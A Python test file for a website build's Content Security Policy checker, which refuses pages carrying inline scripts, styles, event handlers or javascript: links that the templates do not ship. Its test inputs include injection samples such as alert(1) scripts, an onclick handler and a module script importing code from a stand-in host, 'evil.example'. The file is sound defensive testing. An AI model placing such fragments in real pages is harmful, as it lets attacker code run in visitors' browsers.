"""The policy's inline scripts come from the templates alone; a page with
any other inline script, <style>, handler or style attribute is refused."""

from __future__ import annotations

from pathlib import Path

import material
import pytest
from selectolax.lexbor import LexborHTMLParser

from moussalaha.output import policy
from moussalaha.problems import Problems, SiteError

pytestmark = pytest.mark.unit
ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = [ROOT / "overrides", Path(material.__file__).parent / "templates"]


@pytest.fixture(scope="module")
def allowed():
    return policy.template_scripts(TEMPLATES)


def test_the_templates_scripts_are_known(allowed):
    assert len(allowed) >= 4
    assert policy.sha256('document.documentElement.classList.replace("no-js","js")') in allowed
    # The theme's scope script, rendered for a page one folder deep (fr/centre.html).
    scope = next(h for h, where in allowed.items() if where.startswith("base.html"))
    assert scope


def test_a_page_of_the_site_passes(allowed):
    page = ('<html class="no-js"><head><script>document.documentElement.classList.replace("no-js","js")</script>'
            '<script id="__config" type="application/json">{"a": 1}</script>'
            '<script src="assets/javascripts/search.js"></script></head><body><p>x</p></body></html>')
    assert policy.foreign_inline(page, allowed) == []


@pytest.mark.parametrize("fragment, words", [
    ("<script>alert(1)</script>", "inline <script> that the site's templates do not ship: «alert(1)»"),
    ('<script type="module">import("//evil.example/x.js")</script>', "inline <script>"),
    ("<style>body{display:none}</style>", "a <style> element"),
    ('<p onclick="alert(1)">x</p>', '<p onclick="alert(1)">'),
    ('<p style="color:red">x</p>', '<p style="color:red">'),
    ('<a href="javascript:go()">x</a>', '<a href="javascript:go()">'),
])
def test_a_page_with_a_foreign_inline_script_fails(allowed, fragment, words):
    found = policy.foreign_inline(f"<html><head></head><body>{fragment}</body></html>", allowed)
    assert any(words in item for item in found), found


def test_a_foreign_inline_script_is_refused_on_the_editors_page(allowed):
    page = '<html><head></head><body><p style="color: red">x</p></body></html>'
    with pytest.raises(Problems) as caught:
        policy.refuse_foreign(page, allowed, "docs/about.fr.md")
    assert str(caught.value).startswith('docs/about.fr.md:1: the built page would carry <p style="color: red">')
    assert "site.css" in str(caught.value)


def test_the_policy_meta_is_put_in_the_page_tree_as_the_text_would_get_it(tmp_path):
    """The meta the build puts in each page's tree as it writes it is the one
    add_meta puts in a page's text after the build (redirect pages)."""
    page = ('<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>t</title></head>'
            '<body><p>x</p></body></html>')
    csp = policy.meta_text(["'sha256-abc+/='"], wasm=True)
    tree = LexborHTMLParser(page)
    policy.insert_meta(tree, policy.meta_tags(csp), "fr/centre.html")
    (tmp_path / "centre.html").write_text(page, encoding="utf-8")
    policy.add_meta(tmp_path, csp)
    assert tree.html == LexborHTMLParser((tmp_path / "centre.html").read_text(encoding="utf-8")).html
    assert [node.tag for node in tree.head.iter()] == ["meta", "meta", "meta", "title"]
    assert "'wasm-unsafe-eval' 'sha256-abc+/='" in tree.head.css("meta")[1].attributes["content"]
    with pytest.raises(SiteError, match=r"^fr/centre\.html: no <meta charset=\"utf-8\"> to put"):
        policy.insert_meta(LexborHTMLParser("<html><head><title>t</title></head></html>"), "", "fr/centre.html")
